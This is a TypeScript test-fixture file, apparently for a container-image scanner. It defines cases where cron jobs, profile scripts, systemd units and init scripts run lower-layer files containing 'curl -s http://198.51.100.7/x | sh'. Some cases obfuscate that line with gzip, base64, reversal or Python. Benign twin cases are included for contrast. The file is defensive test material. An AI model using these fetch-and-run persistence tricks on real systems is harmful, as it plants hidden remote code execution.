import { gzipSync } from 'node:zlib';
import { base64, type Files, type ImageCase, image, layer } from './image-case.ts';

const FETCH = 'curl -s http://198.51.100.7/x | sh\n';
const PYTHON = 'import os\nos.system("curl -s http://198.51.100.7/x | sh")\n';
const FETCHED = 'start/download-and-run';
const IDLE = { Entrypoint: ['/usr/bin/sleep', 'infinity'] };

/** The place in a layer above the files that it runs. Nothing in the image starts cron or an init system. */
function over(name: string, place: Files, files: Files, rule = FETCHED): ImageCase {
  return {
    name,
    spec: image([layer(files), layer(place)], IDLE),
    rule,
    ...(rule === FETCHED && { severity: 'high' as const }),
  };
}

const CRON = 'etc/cron.d/state';
const job = (command: string): Files => ({ [CRON]: `17 * * * * root ${command}\n` });

/** What places from which things start by themselves run out of other layers, and other files. */
export const AUTOSTARTS: readonly ImageCase[] = [
  over('cron unpacks a lower layer', job('zcat /opt/state.gz | sh'), { 'opt/state.gz': gzipSync(FETCH) }),
  over('cron decodes a lower layer', job('base64 -d /opt/x | sh'), { 'opt/x': base64(FETCH) }),
  over('cron turns a lower layer round', job('rev /opt/x | sh'), {
    'opt/x': `${[...FETCH.trim()].reverse().join('')}\n`,
  }),
  over('cron hands a lower layer to a shell', job('sh /opt/x.sh'), { 'opt/x.sh': FETCH }),
  over('cron hands a lower layer to a shell that reads', job('sh < /opt/logo.txt'), {
    'opt/logo.txt': FETCH,
  }),
  over('cron sources a lower layer', job('. /opt/env; /usr/bin/true'), { 'opt/env': FETCH }),
  over('cron runs a program of a lower layer', job('/opt/bin/update'), {
    'opt/bin/update': `#!/bin/sh\n${FETCH}`,
  }),
  over('cron runs a program by its name', job('update-state'), {
    'usr/local/bin/update-state': `#!/bin/sh\n${FETCH}`,
  }),
  over('cron runs Python by another name', job('python3 /opt/data.txt'), { 'opt/data.txt': PYTHON }),
  over('cron runs what runs what fetches', job('/opt/a.sh'), {
    'opt/a.sh': '#!/bin/sh\ncd /opt\n./b.sh\n',
    'opt/b.sh': '#!/bin/sh\n. /opt/c\n',
    'opt/c': FETCH,
  }),
  over('cron runs a folder', job('cd / && run-parts --report /opt/hourly'), {
    'opt/hourly/a': `#!/bin/sh\n${FETCH}`,
  }),
  over('a profile sources a lower layer', { 'etc/profile.d/env.sh': '. /opt/env\n' }, { 'opt/env': FETCH }),
  over(
    'a unit runs a lower layer',
    { 'etc/systemd/system/x.service': '[Service]\nExecStart=/bin/sh /opt/x\n' },
    { 'opt/x': FETCH },
  ),
  over(
    'an init script runs a lower layer',
    { 'etc/init.d/x': '#!/bin/sh\ncase "$1" in start) bash /opt/x & ;; esac\n' },
    { 'opt/x': FETCH },
  ),
  over(
    'a linked crontab runs another file',
    { 'etc/cron.d/state': { type: 'symlink', target: '/opt/table' } },
    { 'opt/table': '17 * * * * root sh /opt/x\n', 'opt/x': FETCH },
  ),
  {
    name: 'cron runs a file of its own layer',
    spec: image({ ...job('. /opt/env'), 'opt/env': FETCH }, IDLE),
    rule: FETCHED,
    severity: 'high',
  },
  over(
    'cron runs what was not kept',
    job('sh /usr/share/doc/zz/README'),
    {
      'usr/share/doc/zz/README': FETCH,
    },
    'coverage/not-fully-read',
  ),
];

/** The same places, as they are. */
export const AUTOSTART_TWINS: readonly ImageCase[] = [
  {
    name: 'jobs, profiles and init scripts that run files of a lower layer',
    spec: image(
      [
        layer({
          'lib/lsb/init-functions': 'log_daemon_msg() {\n  echo "$@"\n}\n',
          'opt/env': 'export JAVA_HOME=/opt/java\n',
          'opt/state.gz': gzipSync('a,b\n1,2\n'),
          'opt/backup.sh': '#!/bin/sh\nset -e\ntar -czf /var/backups/app.tgz /srv/app\n',
          'usr/lib/app/rotate.sh': '#!/bin/sh\nfind /var/log/app -mtime +7 -delete\n',
        }),
        layer({
          'etc/cron.d/app':
            'SHELL=/bin/sh\n5 2 * * * root /opt/backup.sh\n5 3 * * * root zcat /opt/state.gz | sort > /var/lib/app/state\n',
          'etc/cron.daily/app': '#!/bin/sh\nexec /usr/lib/app/rotate.sh\n',
          'etc/profile.d/app.sh': '[ -r /opt/env ] && . /opt/env\n',
          'etc/init.d/app':
            '#!/bin/sh\n. /lib/lsb/init-functions\ncase "$1" in start) log_daemon_msg app ;; esac\n',
        }),
      ],
      IDLE,
    ),
  },
  {
    name: 'a script that fetches, which a job only reads',
    spec: image(
      [
        layer({ 'opt/install.sh': '#!/bin/sh\ncurl -fsSL https://get.example.com/tool.sh | sh\n' }),
        layer(job('grep -c curl /opt/install.sh; cp /opt/install.sh /var/backups/')),
      ],
      IDLE,
    ),
  },
];
